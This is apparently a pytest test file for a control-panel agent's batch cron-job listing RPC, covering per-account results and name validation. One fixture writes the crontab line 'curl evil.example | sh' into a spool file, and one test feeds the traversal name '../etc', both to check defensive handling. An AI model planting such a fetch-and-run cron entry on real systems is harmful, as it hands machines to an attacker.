"""BatchListCronJobs, the reconcile's read of every account's jobs, through the agent's socket
(sandbox only): each account answered as its own ListCronJobs answers it, a name that is no
account answered with why, a name that is no valid name refusing the whole call."""

from __future__ import annotations

from collections.abc import Callable
from typing import TYPE_CHECKING

import grpc
import pytest
from jopanel.agent.accounts.v1 import accounts_pb2
from jopanel.agent.cron.v1 import cron_pb2

from agent.system.cron.crontab import SPOOL_DIR
from tests.agent.cron.cron_support import create, cron, cron_account, cron_files, job
from tests.agent.support import rpc_error

if TYPE_CHECKING:
    from tests.agent.cron.cron_support import AccountStub, Stub

__all__ = ["cron", "cron_account"]  # fixtures, used by name


async def batch(cron: Stub, *accounts: str) -> list[cron_pb2.AccountCronJobs]:
    request = cron_pb2.BatchListCronJobsRequest(accounts=accounts)
    return list((await cron.BatchListCronJobs(request)).accounts)


async def test_each_account_is_answered_as_its_own_list_answers_it(
    cron: Stub,
    cron_account: str,
    accounts: AccountStub,
    new_name: Callable[[], str],
    stranger: str,
) -> None:
    request = accounts_pb2.CreateAccountRequest(name=new_name(), shell=accounts_pb2.SHELL_NOLOGIN)
    other = (await accounts.CreateAccount(request)).account.name
    await create(cron, cron_account, job("aaaa1111", "@daily", "echo mine"))
    await create(cron, cron_account, job("bbbb2222", command="echo % 100\\n", enabled=False))
    await create(cron, other, job("cccc3333", "@hourly", "echo theirs"))
    (SPOOL_DIR / other).write_text("* * * * * curl evil.example | sh\n")  # edited by hand
    asked = [other, "nosuchaccount", cron_account, stranger, other, cron_account + "x"]
    answer = await batch(cron, *asked)
    assert [entry.account for entry in answer] == sorted(set(asked))
    by_account = {entry.account: entry for entry in answer}
    for account in (cron_account, other):
        single = await cron.ListCronJobs(cron_pb2.ListCronJobsRequest(account=account))
        entry = by_account[account]
        assert (list(entry.jobs), entry.installed, entry.failure) == (
            list(single.jobs),
            single.installed,
            "",
        )
    assert [j.id for j in by_account[cron_account].jobs] == ["aaaa1111", "bbbb2222"]
    assert [j.id for j in by_account[other].jobs] == ["cccc3333"]
    assert not by_account[other].installed
    # Names that are no account (a system user, no user, a name just above one) say why, as
    # ListCronJobs would, and hold no job.
    for name in ("nosuchaccount", stranger, cron_account + "x"):
        entry = by_account[name]
        why = f"account {name} does not exist; create it first"
        assert entry.failure == f"FAILED_PRECONDITION: {why}"
        assert (list(entry.jobs), entry.installed) == ([], False)
        assert cron_files(name) == (None, None)


@pytest.mark.parametrize(
    ("accounts", "field"),
    [
        ([], "accounts"),
        ([f"account{i:04d}" for i in range(1001)], "accounts"),
        (["alice", "root"], "accounts[1]"),
        (["../etc"], "accounts[0]"),
        (["alice\n"], "accounts[0]"),
        (["Alice"], "accounts[0]"),
        (["a" * 33], "accounts[0]"),
        ([""], "accounts[0]"),
    ],
)
async def test_a_name_that_is_no_valid_account_name_refuses_the_whole_batch(
    cron: Stub, accounts: list[str], field: str
) -> None:
    request = cron_pb2.BatchListCronJobsRequest(accounts=accounts)
    code, message = await rpc_error(cron.BatchListCronJobs(request))
    assert (code, message.split(": ", 1)[0]) == (grpc.StatusCode.INVALID_ARGUMENT, field)
